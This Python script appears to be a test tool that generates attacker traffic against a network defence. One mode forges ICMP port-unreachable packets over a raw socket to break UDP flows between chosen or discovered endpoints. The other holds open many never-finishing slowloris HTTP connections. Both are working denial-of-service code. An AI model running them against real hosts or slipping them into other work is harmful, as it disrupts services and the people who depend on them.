#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Packets that an attacker would send. Usage:

forge.py closed [A B]: ICMP messages that say to A that B's port is closed, and to B that A's is. A and B are
HOST:PORT (default: both ends of every connected UDP socket of this host). Prints how many were sent.

forge.py slow HOST:PORT N: N HTTP clients from addresses of loopback, whose requests never end. Prints how many
are connected, and goes on until it is killed.
"""
import resource
import socket
import struct
import sys
import time

TIMES = 20  # enough for a rule that counts them


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def unreachable(to, about):
    """Port unreachable, with the start of the packet from `to` that it pretends to answer."""
    inner = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 1, 0, 64, socket.IPPROTO_UDP, 0, socket.inet_aton(to[0]),
                        socket.inet_aton(about[0]))
    inner += struct.pack("!HHHH", to[1], about[1], 8, 0)
    head = struct.pack("!BBHI", 3, 3, 0, 0)
    return head[:2] + struct.pack("!H", checksum(head + inner)) + head[4:] + inner


def connected():
    for line in list(open("/proc/net/udp", encoding="ascii"))[1:]:
        ends = []
        for word in line.split()[1:3]:
            address, port = word.split(":")
            ends.append((socket.inet_ntoa(struct.pack("<I", int(address, 16))), int(port, 16)))
        if ends[1][1]:
            yield ends[0], ends[1]


def end_of(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


def closed(pairs):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    sent = 0
    for _ in range(TIMES):
        for one, other in pairs:
            raw.sendto(unreachable(one, other), (one[0], 0))
            raw.sendto(unreachable(other, one), (other[0], 0))
            sent += 2
        time.sleep(0.02)
    print(sent)


def slow(server, n):
    resource.setrlimit(resource.RLIMIT_NOFILE, (n + 64, max(n + 64, resource.getrlimit(resource.RLIMIT_NOFILE)[1])))
    clients = []
    for i in range(n):
        client = socket.socket()
        client.bind((f"127.0.{1 + i % 8}.1", 0))
        client.settimeout(2)
        try:
            client.connect(server)
            client.sendall(b"GET /v1/nodes HTTP/1.1\r\nX: ")
        except OSError:
            continue
        clients.append(client)
    print(len(clients), flush=True)
    while True:
        time.sleep(0.5)
        for client in clients:
            try:
                client.sendall(b"x")
            except OSError:
                pass  # it was sent away


ARGUMENTS = sys.argv[2:]
if sys.argv[1] == "slow":
    slow(end_of(ARGUMENTS[0]), int(ARGUMENTS[1]))
closed([tuple(map(end_of, ARGUMENTS))] if ARGUMENTS else list(connected()))
